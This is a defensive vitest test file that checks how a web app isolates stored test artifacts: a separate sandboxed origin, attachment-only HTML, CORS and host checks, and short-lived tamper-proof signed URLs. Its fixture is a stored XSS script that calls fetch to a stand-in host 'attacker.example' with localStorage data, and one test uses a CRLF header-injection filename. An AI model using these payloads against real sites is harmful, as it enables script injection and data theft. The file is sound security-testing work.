import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { rawRequest } from '../http/raw-request.test-support.ts';
import { newPerson, newWorkspace, openServer, type Person, type TestServer } from '../server.test-support.ts';
import { workPart } from '../work-part.ts';

const HTML = '<script>fetch("https://attacker.example/?" + localStorage.length)</script>';
const YEARS = 10 * 365 * 86_400;

let server: TestServer;
let ada: Person;
let eve: Person;
let company: string;
let path: string;
beforeAll(async () => {
  server = await openServer({}, undefined, [workPart()]);
  [ada, eve] = [await newPerson(server), await newPerson(server)];
  company = await newWorkspace(ada);
  await newWorkspace(eve);
  path = `${company}/run-1/1/page 1.html`;
  await put(path, HTML, 'text/html');
  await put(`${company}/run-1/1/picture.png`, new Uint8Array([137, 80, 78, 71]), 'image/png');
}, 180_000);
afterAll(() => server.close());

async function put(name: string, body: string | Uint8Array, contentType: string): Promise<void> {
  const bytes = typeof body === 'string' ? new TextEncoder().encode(body) : body;
  const { storage } = server.context.backend.service;
  const { error } = await storage.from('artifacts').upload(name, bytes, { contentType, upsert: true });
  if (error !== null) throw error;
}

async function sign(name: string, seconds = 60): Promise<string> {
  const { data, error } = await ada.client.storage.from('artifacts').createSignedUrl(name, seconds);
  if (error !== null) throw error;
  return data.signedUrl;
}

const onEvidence = (url: string) => url.replace(server.url, server.context.evidenceUrl);
const ask = (url: string, headers: Record<string, string> = {}, method = 'GET') => rawRequest(url, { method, headers });

describe('hole 6: what a tested page left behind, on the application’s origin', () => {
  test('no artifact is read there, neither by its address nor by a token', async () => {
    const signed = await sign(path);
    const answer = await ask(signed);
    expect([answer.status, answer.body]).toEqual([307, '']);
    expect(answer.headers.location).toBe(onEvidence(signed));
    const headers = { apikey: server.context.backend.publishableKey, authorization: `Bearer ${ada.token}` };
    for (const access of ['', 'authenticated/', 'public/'])
      for (const base of [server.url, server.context.evidenceUrl]) {
        const read = await ask(`${base}/storage/v1/object/${access}artifacts/${encodeURI(path)}`, headers);
        expect([403, 404]).toContain(read.status);
        expect(read.body).not.toContain('<script>');
      }
  });

  test('no viewer of traces is there', async () => {
    const answer = await ask(`${server.url}/trace-viewer/index.html?trace=x`);
    expect([answer.status, answer.headers.location]).toEqual([
      308,
      `${server.context.evidenceUrl}/trace-viewer/index.html?trace=x`,
    ]);
    expect((await ask(`${server.url}/trace-viewer/sw.bundle.js`)).status).toBe(308);
  });
});

describe('hole 6: the evidence’s own origin', () => {
  test('has another origin, and the client learns which one, under the name that it used itself', async () => {
    expect(new URL(server.context.evidenceUrl).origin).not.toBe(server.url);
    const config = async (host: string) => JSON.parse((await ask(`${server.url}/config.json`, { host })).body);
    const [{ port }, { port: second }] = [new URL(server.url), new URL(server.context.evidenceUrl)];
    expect(await config(`127.0.0.1:${port}`)).toMatchObject({ evidenceUrl: `http://127.0.0.1:${second}` });
    expect(await config(`localhost:${port}`)).toMatchObject({ evidenceUrl: `http://localhost:${second}` });
  });

  test('knows no session, no protocol, no outbox, no figures and no sockets', async () => {
    const headers = { apikey: server.context.backend.publishableKey, authorization: `Bearer ${ada.token}` };
    const paths = [
      '/auth/v1/user',
      '/rest/v1/projects',
      '/functions/v1/start-runs',
      '/storage/v1/bucket',
      '/agents/v1/hello',
    ];
    for (const place of [
      ...paths,
      `/outbox?key=${server.outboxKey}`,
      '/config.json',
      '/metrics',
      '/healthz',
      '/',
      '/login',
    ])
      for (const method of ['GET', 'POST', 'OPTIONS']) {
        const answer = await ask(server.context.evidenceUrl + place, headers, method);
        expect([place, method, answer.status, answer.headers['set-cookie']]).toEqual([place, method, 404, undefined]);
      }
    const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' };
    const socket = await ask(`${server.context.evidenceUrl}/realtime/v1/websocket`, {
      ...upgrade,
      'sec-websocket-key': 'MDEyMzQ1Njc4OWFiY2RlZg==',
    });
    expect(socket.status).toBe(404);
  });

  test('gives a page that was recorded as a file to keep, in a sandbox, framed by the application alone', async () => {
    const { status, headers, body } = await ask(onEvidence(await sign(path)));
    expect([status, body]).toEqual([200, HTML]);
    expect(headers).toMatchObject({
      'content-type': 'application/octet-stream',
      'content-disposition': "attachment; filename*=UTF-8''page%201.html",
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-resource-policy': 'cross-origin',
      'content-security-policy': expect.stringMatching(/^default-src 'none';.*; sandbox; frame-ancestors http:\/\/127/),
    });
  });

  test('shows pictures as pictures, also to a script of the application, and of no other page', async () => {
    const url = onEvidence(await sign(`${company}/run-1/1/picture.png`));
    const answer = await ask(url, { origin: server.url });
    expect(answer.headers).toMatchObject({ 'content-type': 'image/png', 'access-control-allow-origin': server.url });
    expect(answer.headers['content-disposition']).toBeUndefined();
    for (const origin of ['https://attacker.example', 'null', 'http://localhost:1'])
      expect((await ask(url, { origin })).headers['access-control-allow-origin']).toBeUndefined();
    expect((await ask(`${url}&download=a%22%0d%0ab.png`)).headers['content-disposition']).toBe(
      "attachment; filename*=UTF-8''a%22%0D%0Ab.png",
    );
  });

  test('registers no worker but the viewer’s', async () => {
    const worker = { 'service-worker': 'script' };
    expect((await ask(onEvidence(await sign(path)), worker)).status).toBe(403);
    expect((await ask(`${server.context.evidenceUrl}/trace-viewer/sw.bundle.js`, worker)).status).toBe(200);
    expect((await ask(`${server.context.evidenceUrl}/trace-viewer/index.html`, worker)).status).toBe(403);
  });

  test('is not answered under a foreign name', async () => {
    expect((await ask(onEvidence(await sign(path)), { host: 'attacker.example' })).status).toBe(403);
  });
});

describe('hole 18: addresses that open a file', () => {
  test('last a day at most, one or several, whatever was asked for', async () => {
    const latest = Math.floor(Date.now() / 1000) + 86_400 + 60;
    const several = await ada.client.storage.from('artifacts').createSignedUrls([path], YEARS);
    for (const url of [await sign(path, YEARS), several.data?.[0]?.signedUrl ?? '']) {
      const end = Number(new URL(url).searchParams.get('token')?.split('.')[1]);
      expect(end).toBeGreaterThan(latest - 600);
      expect(end).toBeLessThan(latest);
      expect((await ask(onEvidence(url))).status).toBe(200);
    }
  });

  test('open nothing else, and nothing when they are changed', async () => {
    const url = new URL(onEvidence(await sign(path)));
    const token = url.searchParams.get('token') ?? '';
    const tries = [
      url.href.replace('page%201.html', 'picture.png'),
      url.href.replace('/run-1/1/', '/run-1/1/../1/x/'),
      url.href.replace(company, company.toUpperCase()),
      url.href.replace(
        token,
        token.replace(/\d+/, (day) => String(Number(day) + 1)),
      ),
      url.href.replace(/\?.*$/, ''),
      url.href.replace(/token=.*$/, 'token='),
      `${url.href.replace(/\?.*$/, '')}?token=x&token=${token}`,
    ];
    for (const tried of tries) expect([tried, (await ask(tried)).status]).toEqual([tried, 404]);
  });

  test('are given to nobody of another company, and none to upload by', async () => {
    const other = await eve.client.storage.from('artifacts').createSignedUrl(path, 60);
    expect(other.error?.message).toBe('Object not found');
    const upload = await ada.client.storage.from('artifacts').createSignedUploadUrl(`${company}/own.txt`);
    expect(upload.error?.message).toContain('files come from agents');
    const stored = await ada.client.storage.from('artifacts').upload(`${company}/own.txt`, 'x');
    expect(stored.error?.message).toContain('files come from agents');
  });

  test('wrong times are refused in words', async () => {
    for (const seconds of [0, -1, Number.NaN]) {
      const { error } = await ada.client.storage.from('artifacts').createSignedUrl(path, seconds);
      expect(error?.message).toContain('expiresIn must be a number of seconds');
    }
  });
});

describe('evidence with a name of its own', () => {
  test('is answered on the first port too, and the application is not there', { timeout: 180_000 }, async () => {
    const SITE_URL = 'https://assay.example.com';
    const named = await openServer({ SITE_URL, ASSAY_EVIDENCE_URL: 'https://evidence.example.com' });
    const at = (host: string, place: string) => ask(named.localUrl + place, { host });
    expect(JSON.parse((await at('assay.example.com', '/config.json')).body)).toMatchObject({
      evidenceUrl: 'https://evidence.example.com',
    });
    expect((await at('evidence.example.com', '/config.json')).status).toBe(404);
    expect((await at('evidence.example.com', '/trace-viewer/index.html')).status).toBe(200);
    const { headers } = await at('assay.example.com', '/trace-viewer/index.html');
    expect(headers.location).toBe('https://evidence.example.com/trace-viewer/index.html');
    await named.close();
  });

  test('on a phone of the same network it has the same name and the second port, and a viewer without workers', {
    timeout: 180_000,
  }, async () => {
    const shared = await openServer({ SITE_URL: 'http://192.168.1.5:3000', HOST: '127.0.0.1' });
    const { port } = new URL(shared.context.evidenceUrl);
    expect(shared.context.evidenceUrl).toBe(`http://192.168.1.5:${port}`);
    const phone = await ask(`http://127.0.0.1:${port}/trace-viewer/index.html?trace=x`, {
      host: `192.168.1.5:${port}`,
    });
    expect([phone.status, phone.headers.location]).toEqual([307, '/trace-viewer/plain/index.html?trace=x']);
    const plain = await ask(`http://127.0.0.1:${port}/trace-viewer/plain/index.html`, { host: `192.168.1.5:${port}` });
    expect(plain.status).toBe(200);
    // On this machine browsers have service workers.
    expect((await ask(`http://127.0.0.1:${port}/trace-viewer/index.html`)).status).toBe(200);
    await shared.close();
  });
});
